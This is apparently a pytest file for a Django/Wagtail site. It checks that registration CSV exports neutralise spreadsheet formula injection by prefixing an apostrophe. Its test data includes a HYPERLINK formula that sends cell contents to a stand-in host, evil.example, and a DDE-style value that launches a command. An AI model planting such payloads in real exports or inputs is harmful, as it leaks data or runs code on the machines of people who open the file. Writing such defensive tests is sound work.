"""Finding 6: a CSV the site writes never runs as a formula in a spreadsheet.

Registrants type their own name, organisation and needs; opened in a spreadsheet a
cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be
read as a formula (``=HYPERLINK(…)`` sends data away). Such cells get a leading
apostrophe, which spreadsheets show as text.
"""

import csv
import io

import pytest

from django.contrib.auth.models import Group, User
from django.utils import timezone

from wagtail import hooks
from wagtail.admin.viewsets.base import ViewSetGroup
from wagtail.admin.viewsets.model import ModelViewSet
from wagtail.snippets.models import get_snippet_models

from network_site.core.spreadsheets import SafeSpreadsheetExportMixin, neutralise_formula
from practices.events.organisers import ORGANISERS_GROUP
from practices.models import EventRegistration
from tests.accounts import sign_in
from tests.factories import ensure_countries, make_event, make_event_index

PAYLOADS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
    "organisation": "+1+1",
    "accessibility_needs": "-2+3",
    "dietary_needs": "@SUM(1,2)",
}


@pytest.mark.parametrize("text", [*PAYLOADS.values(), "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"])
def test_formula_prefixes_are_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["Ana Pop", "Vegetarian", "", "1", "Café = good"])
def test_plain_text_is_left_alone(text):
    assert neutralise_formula(text) == text


def test_the_registrations_export_carries_no_formula(client, site_tree):
    ensure_countries("BE")
    index = make_event_index(site_tree["home"])
    event = make_event(index, title="Casework day")
    EventRegistration.objects.create(
        event=event, status="confirmed", email="ana@example.org", language="en",
        consent_given_at=timezone.now(), **PAYLOADS,
    )  # fmt: skip
    organiser = User.objects.create_user("organiser", "organiser@example.org", "pw-org-123456")
    organiser.groups.add(Group.objects.get(name=ORGANISERS_GROUP))
    sign_in(client, organiser)
    export = client.get(f"/cms/event-registrations/?event={event.pk}&export=csv")
    assert export.status_code == 200
    row = next(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert row["Name"] == "'" + PAYLOADS["name"]
    assert row["Organisation"] == "'+1+1"
    assert row["Accessibility needs"] == "'-2+3"
    assert row["Dietary needs"] == "'@SUM(1,2)"
    assert row["E-mail"] == "ana@example.org"


def _viewsets(items):
    for item in items:
        if isinstance(item, ViewSetGroup):
            yield from _viewsets(item.registerables)
        else:
            yield item


def test_every_admin_export_of_the_project_uses_the_safe_writer():
    viewsets = [
        *_viewsets(fn() for fn in hooks.get_hooks("register_admin_viewset")),
        *(model.snippet_viewset for model in get_snippet_models()),
    ]
    exporting = [
        viewset
        for viewset in viewsets
        if isinstance(viewset, ModelViewSet)
        and isinstance(viewset.list_export, list | tuple)
        and viewset.list_export
        and viewset.model._meta.app_label in {"practices", "agencies", "notifications"}
    ]
    assert exporting, "the registrations export at least"
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, SafeSpreadsheetExportMixin), viewset
